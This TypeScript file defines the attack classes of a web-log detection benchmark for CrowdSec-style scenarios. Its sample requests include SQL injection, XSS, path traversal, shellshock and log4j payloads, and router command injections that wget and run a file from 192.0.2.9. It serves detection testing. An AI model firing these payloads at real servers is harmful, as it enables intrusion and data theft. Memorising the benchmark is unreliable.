// The attack classes of the detection corpus (bench/web-corpus.ts): per class the requests of
// scanners and exploit kits as they reach a web server (the classes of CrowdSec's http
// scenarios, the CVE probes that fill public logs, and the error-log lines of the same attacks),
// several variants each: encodings, case, methods, answers. Written here, nothing is fetched.
import { TYPES, type ErrorMessage, type Request, type WebType } from './web-lines.js';

/** A class: its requests (played on each type of `on`) and its error-log lines. */
export interface AttackClass { name: string; like: string; on: WebType[]; access: Request[]; errors?: ErrorMessage[]; level?: 'strict' }

const NOT_WP: WebType[] = ['generic', 'joomla', 'nextcloud', 'static'];
const ANY: WebType[] = TYPES;
const get = (path: string, status = 404, o: Partial<Request> = {}): Request => ({ req: `GET ${path} HTTP/1.1`, status, ...o });
const post = (path: string, status = 404, o: Partial<Request> = {}): Request => ({ req: `POST ${path} HTTP/1.1`, status, ...o });
const ua = (agent: string, path = '/', status = 200): Request => ({ req: `GET ${path} HTTP/1.1`, status, ua: agent });

/** The attack classes, each with the CrowdSec scenario or list it stands for. */
export const ATTACKS: AttackClass[] = [
  { name: 'sensitive-files', like: 'http-sensitive-files', on: ANY, access: [
    get('/.env'), get('/.env.production'), get('/api/.env'), get('/laravel/.env', 403), get('/.git/config', 403), get('/.git/HEAD'),
    get('/.svn/entries'), get('/.aws/credentials'), get('/.ssh/id_rsa'), get('/.htpasswd', 403), get('/.DS_Store'), get('/wp-config.php.bak'),
    get('/wp-config.php~'), get('/config.php.save'), get('/backup.zip'), get('/db.sql'), get('/www.tar.gz'), get('/dump.sql.gz'),
    get('/phpinfo.php'), get('/info.php'), get('/server-status', 403), get('/server-info'), get('/.vscode/sftp.json'), get('/sftp-config.json'),
    get('/.bash_history'), get('/docker-compose.yml'), get('/.npmrc'), get('/WEB-INF/web.xml'), get('/actuator/env'), get('/.git/config', 404, { req: 'HEAD /.git/config HTTP/1.1' }),
    get('/%2e%65nv'), get('/appsettings.json'), get('/.env.bak'), get('/_profiler/phpinfo'),
    get('/storage/logs/laravel.log'), get('/wp-content/debug.log'), get('/.bzr/branch-format'), get('/.circleci/config.yml'), get('/db.sqlite'), get('/site.tar.bz2'),
    get('/.git/logs/HEAD'), get('/.svn/wc.db'), get('/debug/default/view?panel=config'), get('/.env.local'), get('/admin/.env'),
  ] },
  { name: 'admin-interface', like: 'http-admin-interface-probing', on: ANY, access: [
    get('/phpmyadmin/'), get('/phpMyAdmin/index.php'), get('/pma/'), get('/myadmin/'), get('/adminer.php'), get('/manager/html'), get('/manager/html', 401),
    get('/host-manager/html'), get('/jmx-console/'), get('/solr/admin/'), get('/console/login/LoginForm.jsp'), get('/jenkins/login'), get('/CFIDE/administrator/'),
    get('/zabbix/'), get('/phpPgAdmin/'), get('/webmail/'), get('/system/console'), get('/axis2/axis2-admin/'), get('/druid/index.html'), get('/nacos/'),
    get('/actuator/health'), get('/_cat/indices'), get('/containers/json'), get('/v1.24/containers/json'),
    get('/+CSCOE+/logon.html'), get('/sslvpnLogin.html'), get('/geoserver/web/'), get('/cf_scripts/scripts/ajax/ckeditor/ckeditor.js'), get('/v2/_catalog'), get('/manager/text/list'),
    get('/api/jsonws/invoke'), get('/ReportServer'), get('/goform/setUsbUnload/.js'), get('/tmUnblock.cgi'), get('/currentsetting.htm'),
  ] },
  { name: 'wordpress-scan', like: 'http-wordpress-scan (on an instance that is not WordPress)', on: NOT_WP, access: [
    get('/wp-login.php'), get('/wp-admin/'), get('/wp-includes/wlwmanifest.xml'), get('//blog/wp-includes/wlwmanifest.xml'), get('/wordpress/wp-admin/setup-config.php'),
    post('/xmlrpc.php'), get('/wp-content/plugins/revslider/temp/update_extract/revslider/db.php'), get('/wp-json/wp/v2/users'), get('/wp-admin/install.php', 403),
  ] },
  { name: 'cms-bruteforce', like: 'http-bf-wordpress_bf, wordpress_bf_xmlrpc, joomla and nextcloud logins', on: ['wordpress'], access: [
    post('/wp-login.php', 200), post('/blog/wp-login.php', 200), post('/xmlrpc.php', 200), post('//xmlrpc.php', 200), post('/wp-login.php?action=login', 200),
  ] },
  { name: 'cms-bruteforce', like: 'joomla administrator', on: ['joomla'], access: [post('/administrator/index.php', 200), post('/administrator/', 200)] },
  { name: 'cms-bruteforce', like: 'nextcloud login', on: ['nextcloud'], access: [post('/login', 200), post('/index.php/login', 200)] },
  { name: 'path-traversal', like: 'http-path-traversal-probing', on: ANY, access: [
    get('/../../../../etc/passwd', 400), get('/?file=../../../../etc/passwd', 200), get('/index.php?page=....//....//....//etc/passwd', 200),
    get('/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', 200), get('/static/..%2f..%2f..%2fetc/shadow', 400), get('/img/%252e%252e%252f%252e%252e%252fetc%252fpasswd'),
    get('/file?name=..%c0%af..%c0%afetc%c0%afpasswd', 200), get('/assets/..%5c..%5c..%5cwindows/win.ini'), get('/view?f=..\\..\\..\\boot.ini', 200),
    get('/static/..;/..;/WEB-INF/web.xml'), get('/..%00/etc/passwd', 400), get('/show?template=../../../../windows/win.ini', 200),
    get('/.%252e/.%252e/.%252e/etc/hosts'), get('/page?inc=/proc/self/environ', 200), get('/a/%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd', 400),
    get('/download.php?file=..%252f..%252f..%252fetc%252fpasswd', 200), get('/index.php?lang=....%2f....%2f....%2fetc%2fpasswd', 200),
    get('/static/%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini'), get('/?page=php://filter/convert.base64-encode/resource=index.php', 200), get('/?file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B', 200),
    get('/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php', 200),
  ] },
  { name: 'sql-injection', like: 'http-sqli-probing', on: ANY, access: [
    get("/item.php?id=1'%20OR%20'1'='1", 200), get("/item?id=1'+or+1=1--", 200), get('/item?id=1%27%20OR%201=1--%20-', 200), get('/product?id=-1+UNION+ALL+SELECT+1,2,concat(user(),0x3a,database()),4--', 200),
    get('/p?id=1%20uNiOn/**/sElEcT%201,2,3', 200), get('/news?id=1%0aunion%0aselect%0a1,2', 200), get('/q?id=1/*!50000union*/+/*!50000select*/+1,2', 200),
    get('/item?id=1%20AND%203247%3D3247', 200), get('/item?id=1)%20AND%204812=4812%20AND%20(2453=2453', 200), get('/item?id=1+AND+SLEEP(5)', 200),
    get("/item?id=1'||pg_sleep(10)--", 500), get('/item?id=(select(0)from(select(sleep(7)))v)', 200), get('/cat?id=1;DROP%20TABLE%20users', 500),
    get('/x?id=1+and+extractvalue(1,concat(0x7e,version()))', 500), get('/x?id=1+and+updatexml(1,concat(0x7e,(select+user())),1)', 500),
    get('/login?u=admin%27--&p=x', 200), get("/search?q=1'%20AND%201=CONVERT(int,@@version)--", 500), get('/x?id=1%20ORDER%20BY%2010--', 500),
    get('/x?id=1%27%20AND%20%271%27%3D%271', 200), get('/x?id=1;WAITFOR%20DELAY%20%270:0:5%27--', 200), get('/x?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)', 200),
    get('/x?id=1%22%20OR%20%221%22=%221', 200),
    get("/x?id=1';--", 200), get("/x?id=-1'%20OR%202+803-803-1=0+0+0+1%20--%20", 200), get("/x?id=0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", 200), get("/x?u=admin'+or+''='", 200),
  ] },
  { name: 'xss', like: 'http-xss-probing', on: ANY, access: [
    get('/search?q=<script>alert(1)</script>', 200), get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 200), get('/search?q=%3CScRiPt%3Ealert%28document.cookie%29%3C%2FsCrIpT%3E', 200),
    get('/?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', 200), get('/?q=%3Csvg%2Fonload%3Dalert%281%29%3E', 200), get('/?u=javascript:alert(1)', 200),
    get('/?q=%3Ciframe%20src%3Djavascript%3Aprompt%281%29%3E', 200), get('/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 200), get('/?q=%3Cbody%20onload%3Dconfirm(1)%3E', 200),
    get('/?q=%3Cdetails%20open%20ontoggle%3Dalert(1)%3E', 200), get("/?q='-prompt(1)-'", 200), get('/page?x=%22onmouseover%3D%22alert(1)', 200),
    get('/?q=%3Cimg%20src%3Dx%20onerror%3DString.fromCharCode(88,83,83)%3E', 200), get('/?next=%3Cscript%20src%3D%2F%2Fevil.example%2Fx.js%3E%3C%2Fscript%3E', 302),
  ] },
  { name: 'shellshock', like: 'shellshock (CVE-2014-6271) in headers and URL', on: ANY, access: [
    ua('() { :; }; echo; /bin/cat /etc/passwd', '/cgi-bin/status', 404), ua('() { :;}; /bin/bash -c "wget http://192.0.2.9/x -O /tmp/x"', '/', 200),
    { req: 'GET /cgi-bin/test.cgi HTTP/1.1', status: 404, ref: '() { ignored; }; echo Content-Type: text/plain; echo; id' }, ua('() { _; } >_[$($())] { echo; id; }', '/cgi-bin/admin.cgi', 404),
    get('/cgi-bin/test.cgi?%28%29%20%7B%20%3A%3B%20%7D%3B%20echo%3B%20id', 404),
  ] },
  { name: 'log4j', like: 'crowdsecurity/apache_log4j2_cve-2021-44228', on: ANY, access: [
    ua('${jndi:ldap://192.0.2.9:1389/a}'), get('/?x=${jndi:ldap://x.example/a}', 200), ua('${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}'),
    ua('${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.example/a}'), ua('${${upper:j}ndi:ldap://x.example/a}'), ua('${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}'),
    get('/$%7Bjndi:ldap://x.example/a%7D'), get('/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D'), { req: 'GET / HTTP/1.1', status: 200, ref: '${jndi:dns://x.example/r}' },
    ua('${j${::-n}di:ldap://x.example/a}'), ua('${${date:\'j\'}${date:\'n\'}${date:\'d\'}${date:\'i\'}:ldap://x.example/a}'), { req: 'GET / HTTP/1.1', status: 200, user: '${jndi:ldap://x.example/u}' },
  ] },
  { name: 'scanner-agent', like: 'http-bad-user-agent', on: ANY, access: [
    ua('sqlmap/1.7.2#stable (https://sqlmap.org)'), ua('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)', '/robots.txt', 404),
    ua('Mozilla/5.0 zgrab/0.x'), ua('masscan/1.3 (https://github.com/robertdavidgraham/masscan)'), ua('Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', '/login', 404),
    ua('WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', '/readme.html', 404), ua('gobuster/3.6', '/admin', 404), ua('Fuzz Faster U Fool v2.1.0-dev', '/backup', 404),
    ua('Wfuzz/3.1.0', '/test', 404), ua('Mozilla/4.0 (Hydra)', '/', 401), ua('Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)', '/', 200), ua('Arachni/v1.6.1', '/', 200),
    ua('WhatWeb/0.5.5', '/', 200), ua('Mozilla/3.0 (compatible; Indy Library)', '/', 200), ua('ZmEu', '/', 200), ua('Mozilla/5.0 Jorgee', '/', 404), ua('Morfeus Fucking Scanner', '/', 200),
    ua('muieblackcat', '/muieblackcat', 404), ua('l9explore/1.2.2', '/', 200), ua('Mozilla/5.0 (l9tcpid/v1.1.0)', '/', 200), ua('Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv)', '/', 200),
    ua('Hello, World', '/', 200), ua('feroxbuster/2.10.1', '/api', 404), ua('commix/v3.8-stable (https://commixproject.com)', '/', 200), ua('DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', '/x', 404),
    ua('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', '/', 200), ua('Fuzz Faster U Fool v2.1.0', '/FUZZ', 404), ua('Mozilla/5.0 (compatible; Netsparker)', '/', 200),
  ] },
  { name: 'basic-auth', like: 'http-generic-bf (basic authentication), repeated 401', on: ANY, access: [
    get('/private/', 401, { user: 'admin' }), get('/private/', 401, { user: 'root' }), get('/manager/html', 401, { user: 'tomcat' }), get('/admin/', 401, { user: 'administrator' }),
  ], errors: [
    { form: 'apache24', module: 'auth_basic', text: 'AH01617: user admin: authentication failure for "/private/": Password Mismatch' },
    { form: 'apache24', module: 'auth_basic', text: 'AH01618: user guest not found: /private/' },
    { form: 'apache22', text: 'user admin: authentication failure for "/private/": Password Mismatch' },
    { form: 'nginx', text: 'user "admin": password mismatch', request: 'GET /private/ HTTP/1.1' },
    { form: 'nginx', text: 'user "guest" was not found in "/etc/nginx/.htpasswd"', request: 'GET /private/ HTTP/1.1' },
  ] },
  { name: 'malformed', like: 'TLS on plain HTTP, bad versions, not HTTP (400), nginx 444', on: ANY, access: [
    { req: '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', status: 400, ua: '-' }, { req: '\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03', status: 400, ua: '-' },
    get('/', 400, { req: 'GET / HTTP/7.9' }), get('/', 505, { req: 'GET / HTTP/3.0' }), { req: 'GET /cgi-bin/ HTTP/1.1', status: 444 }, { req: '', status: 400, ua: '-' },
    { req: '\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr', status: 400, ua: '-' }, { req: 'SSH-2.0-Go', status: 400, ua: '-' },
    { req: 'MGLNDD_192.0.2.1_443', status: 400, ua: '-' }, { req: '\x05\x01\x00', status: 400, ua: '-' }, { req: 't3 12.2.1', status: 400, ua: '-' },
    { req: 'OPTIONS sip:nm SIP/2.0', status: 400, ua: '-' }, { req: 'TRACE / HTTP/1.1', status: 405 }, { req: 'TRACK / HTTP/1.1', status: 501 }, { req: 'DEBUG /x.aspx HTTP/1.1', status: 501 },
    { req: 'PRI * HTTP/2.0', status: 400, ua: '-' }, { req: 'HELP', status: 400, ua: '-' }, get('/phpmyadmin/" HTTP/1.1" 200 1 "-" "x', 404),
  ] },
  { name: 'proxy-abuse', like: 'http-open-proxy', on: ANY, access: [
    { req: 'CONNECT 192.0.2.1:443 HTTP/1.1', status: 400 }, { req: 'CONNECT www.example.com:443 HTTP/1.1', status: 405 }, { req: 'GET http://www.example.com/ HTTP/1.1', status: 200 },
    { req: 'GET http://192.0.2.1:8080/proxy.txt HTTP/1.1', status: 404 }, { req: 'HEAD https://www.example.net/ HTTP/1.1', status: 400 }, { req: 'GET http://checkip.example.com/ HTTP/1.0', status: 200 }, { req: 'GET www.example.com:443 HTTP/1.1', status: 400 },
  ] },
  { name: 'backdoors', like: 'http-backdoors-attempts', on: ANY, access: [
    get('/c99.php'), get('/r57.php'), get('/wso.php'), get('/wso112233.php'), get('/alfa.php'), get('/ALFA_DATA/alfacgiapi/perl.alfa'), get('/b374k.php'), get('/shell.php'),
    get('/cmd.php'), get('/wp-content/plugins/hellopress/wp_filemanager.php'), get('/xleet.php'), get('/marijuana.php'), get('/priv8.php'), get('/mini.php'), get('/indoxploit.php'),
    post('/wp-content/themes/twentytwenty/shell.php'), get('/cmd.jsp'), get('/shell.aspx'), get('/cmdasp.asp'), get('/leaf.php'), get('/wp-conflg.php'), get('/bypass.php'),
  ] },
  { name: 'cve-probes', like: 'crowdsecurity http-cve-* and vpatch-*', on: ANY, access: [
    get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400), get('/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 403), get('/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd', 400),
    get('/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh', 400),
    get('/public/plugins/alertlist/../../../../../../../../etc/passwd', 400), get('/public/plugins/grafana-clock-panel/..%2f..%2f..%2f..%2fetc%2fpasswd', 404),
    get('/vpn/../vpns/cfg/smb.conf', 400), get('/vpns/portal/scripts/newbm.pl'), post('/vpns/portal/scripts/newbm.pl'), get('/gwtest/formssso?event=start&target=x'),
    get('/oauth/idp/.well-known/openid-configuration'),
    get('/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/', 400), get('/dana-na/auth/url_default/welcome.cgi'),
    get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'), get('/tmui/login.jsp/..;/tmui/util/getTabSet.jsp'), post('/mgmt/tm/util/bash'), post('/mgmt/shared/authn/login'),
    get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', 400), { req: 'PUT /api/v2/cmdb/system/admin/admin HTTP/1.1', status: 404, ua: 'Report Runner' }, get('/remote/login?lang=en'),
    post('/ui/vropspluginui/rest/services/uploadova'), get('/analytics/telemetry/ph/api/hyper/send?_c&_i=test'),
    get('/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28%22%69%64%22%29%7d'),
    get('/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/'),
    get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'), post('/setup/setupadministrator.action'), post('/template/aui/text-inline.vm'),
    post('/pages/createpage-entervariables.action?SpaceKey=x'),
    get('/rest/api/latest/groupuserpicker?query=1&maxResults=50000&showAvatar=true'), get('/secure/ContactAdministrators!default.jspa'), get('/s/cfx/_/;/WEB-INF/web.xml'),
    get('/secure/QueryComponent!Default.jspa'), get('/secure/ViewUserHover.jspa?username=admin'),
    get('/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21', 200),
    get('/public/index.php?s=index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id', 200), get('/index.php?s=captcha', 200, { req: 'POST /index.php?s=captcha HTTP/1.1' }),
    post('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di', 200), get('/?class.module.classLoader.URLs%5B0%5D=0', 400),
    get('/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example', 404), get('/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example'),
    get('/console/css/%252e%252e%252fconsole.portal'), post('/wls-wsat/CoordinatorPortType'), post('/_async/AsyncResponseService'),
    post('/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax', 200), post('/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup', 200),
    post('/_ignition/execute-solution', 405), get('/_ignition/health-check'), post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
    { req: 'PUT /SDK/webLanguage HTTP/1.1', status: 404 }, get('/GponForm/diag_Form?images/'), post('/ctrlt/DeviceUpgrade_1'), post('/picsdesc.xml'),
    get('/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F192.0.2.9%2Fx', 404),
    get('/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.9/x+-O+/tmp/x;sh+/tmp/x&curpath=/&currentsetting.htm=1'),
    get('/moveitisapi/moveitisapi.dll?action=m2'), post('/webui/logoutconfirm.html?logon_hash=1'), get('/webtools/control/xmlrpc;/?USERNAME=&PASSWORD=&requirePasswordChange=Y'),
    { req: 'PUT /1.jsp/ HTTP/1.1', status: 404 }, post('/index.php?routestring=ajax/render/widget_php', 200), get('/app?service=page/SetupCompleted'),
    get('/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1'), get('/global-protect/login.esp'), post('/clients/MyCRL'), get('/developmentserver/metadatauploader'),
    get('/HNAP1/'), post('/boaform/admin/formLogin'), get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)', 404),
    get('/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%29%7D/actionChain1.action'), get('/zimbraAdmin/'),
    post('/service/extension/backup/mboximport?account-name=admin&account-status=1&ow=cmd'),
    get('/nice%20ports%2C/Tri%6Eity.txt%2ebak'), get('/nmaplowercheck1733170000'), get('/phpunit/src/Util/PHP/eval-stdin.php'), get('/?XDEBUG_SESSION_START=phpstorm', 200),
    get('/index.php?s=/module/action/param1/${@phpinfo()}', 200), get('/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input', 400),
    get('/api/index.php/v1/config/application?public=true', 200), get('/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws'), get('/cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://192.0.2.9/x'),
    get('/language/Swedish${IFS}&&echo${IFS}1>test&&tar${IFS}/string.js', 404), get('/?x=$(whoami)', 200), get('/ping?host=127.0.0.1%26%26id', 200),
    get('/acunetix-wvs-test-for-some-inexistent-file'), get('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php'),
  ] },
  { name: 'script-404', like: 'http-probing (bursts of 404 on scripts)', on: ['generic', 'wordpress'], level: 'strict', access: [
    get('/admin.php'), get('/login.asp'), get('/index.jsp'), get('/test.cgi'), get('/wp.php'), get('/about.php'), get('/xmlrpc2.php'), get('/api/login.action'),
  ] },
  { name: 'script-404', like: 'scripts on a static instance (any answer)', on: ['static'], access: [
    get('/admin.php'), get('/login.asp'), get('/index.jsp'), get('/test.cgi'), get('/wp.php'), get('/about.php', 200), get('/index.php', 200),
  ] },
  { name: 'error-log', like: 'limiting requests, client denied, script not found, invalid requests (error logs)', on: ['generic', 'static'], access: [], errors: [
    { form: 'nginx', text: 'limiting requests, excess: 10.520 by zone "one"' },
    { form: 'nginx', text: 'limiting connections by zone "addr"' },
    { form: 'apache24', module: 'authz_core', text: 'AH01630: client denied by server configuration: /var/www/admin' },
    { form: 'apache22', text: 'client denied by server configuration: /var/www/html/noentry/x.html' },
    { form: 'nginx', text: 'access forbidden by rule', request: 'GET /admin/ HTTP/1.1' },
    { form: 'apache24', module: 'cgi', text: 'AH01264: script not found or unable to stat: /usr/lib/cgi-bin/php5' },
    { form: 'apache24', module: 'proxy_fcgi', text: "AH01071: Got error 'Primary script unknown'" },
    { form: 'apache22', text: 'script \'/var/www/wp-login.php\' not found or unable to stat' },
    { form: 'nginx', text: 'FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream', request: 'GET /shell.php HTTP/1.1' },
    { form: 'apache24', module: 'core', text: 'AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/bin/sh)' },
    { form: 'apache24', module: 'core', level: 'info', text: 'AH00126: Invalid URI in request GET /..%2f..%2fetc/passwd HTTP/1.1' },
    { form: 'apache24', module: 'security2', text: 'ModSecurity: Access denied with code 403 (phase 2). Pattern match "union select" at ARGS:id. [id "942100"]' },
    { form: 'apache24', module: 'core', level: 'info', text: 'AH00128: File does not exist: /var/www/html/phpmyadmin' },
    { form: 'nginx', text: 'open() "/var/www/html/.env" failed (2: No such file or directory)', request: 'GET /.env HTTP/1.1' },
    { form: 'nginx', text: '"/var/www/html/wp-login.php" is not found (2: No such file or directory)', request: 'GET /wp-login.php HTTP/1.1' },
    { form: 'apache24', module: 'core', level: 'info', text: 'AH00128: File does not exist: /var/www/html/wp-login.php' },
    { form: 'apache24', module: 'core', text: 'AH00566: request failed: malformed request line' },
  ] },
];

/** WordPress's own REST API asked for its users on a WordPress instance. */
ATTACKS.push({ name: 'wordpress-scan', like: 'WordPress user enumeration on a WordPress instance', on: ['wordpress'], access: [get('/?rest_route=/wp/v2/users', 200), get('/wp-json/wp/v2/users', 200), get('/?author=2', 301)] });

/** A third batch, written before its rules: more CVE probes, scanner agents and sensitive files. */
ATTACKS.push(
  { name: 'cve-probes', like: 'crowdsecurity http-cve-* (third batch)', on: ANY, access: [
    get('/vendor/htmlawed/htmlawed/htmLawedTest.php', 404, { req: 'POST /vendor/htmlawed/htmlawed/htmLawedTest.php HTTP/1.1' }), post('/json/setup-restore.action?synchronous=true'),
    get('/hax?jsp=/app/rest/users;.jsp'), post('/cli?remoting=false'), get('/Telerik.Web.UI.WebResource.axd?type=rau'), post('/functionRouter', 404),
    get('/SamlResponseServlet'), get('/./RestAPI/LogonCustomization'), get('/sitecore/shell/ClientBin/Reporting/Report.ashx'), get('/userportal/Controller?mode=8700&operation=1'),
    get('/ui/h5-vsan/rest/proxy/service/com.vmware.vsan.client.services.capability.VsanCapabilityProvider/getClusterCapabilityData'), get('/app/rest/users/id:1/tokens/RPC2'),
    get('/InsightPluginShowGeneralConfiguration.jspa;'), get('/api/geojson?url=file:/etc/passwd', 400), get('/?x=${script:javascript:java.lang.Runtime.getRuntime().exec(%27id%27)}', 200),
    get('/index.action?id=%25%7B%28%23instancemanager%3D%23application%5B%22org.apache.tomcat.InstanceManager%22%5D%29%7D', 200), get('/${(111+111)}/actionChain1.action'),
    get('/openam/oauth2/..;/ccversion/Version?jato.pageSession=x', 400),
  ] },
  { name: 'scanner-agent', like: 'http-bad-user-agent (third batch)', on: ANY, access: [
    ua('Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1) Skipfish'), ua('Mozilla/5.0 SF/2.10b'), ua('Custom-AsyncHttpClient'), ua('Mozila/5.0 (Windows NT 6.1)'), ua('ALittle Client'), ua('Report Runner', '/api/v2/cmdb/system/admin', 404),
  ] },
  { name: 'sensitive-files', like: 'http-sensitive-files (third batch)', on: ANY, access: [get('/php.ini'), get('/.user.ini', 403), get('/.ENV'), get('/.Git/config'), get('/index.php~'), get('/config.toml'), get('/etc/nginx/nginx.conf')] },
);
ATTACKS.push({ name: 'wordpress-scan', like: 'WPScan enumerating plugins on a WordPress instance', on: ['wordpress'], access: [get('/wp-content/plugins/revslider/readme.txt'), get('/wp-content/plugins/wp-file-manager/readme.txt'), get('/wp-content/themes/twentyfifteen/readme.txt')] });

/** A fourth batch, measured before its rules were written (38 of 60 counted then, 52 after): appliance and application probes. */
ATTACKS.push({ name: 'cve-probes', like: 'appliance and application probes (fourth batch)', on: ANY, access: [
  get('/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application'), get('/owa/auth/logon.aspx'), get('/mysql/admin/'), get('/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>', 200),
  get('/_wpeprivate/config.json'), get('/Dockerfile'), get('/Telerik.Web.UI.DialogHandler.aspx'), get('/webfig/'), post('/ws/v1/cluster/apps/new-application'), post('/api/sonicos/auth'),
  get('/login.rsp'), get('/sites/default/settings.php', 403), get('/index.php?s=/index/index/name/$%7B@phpinfo%28%29%7D', 200), get('/struts/utils.js'),
] });
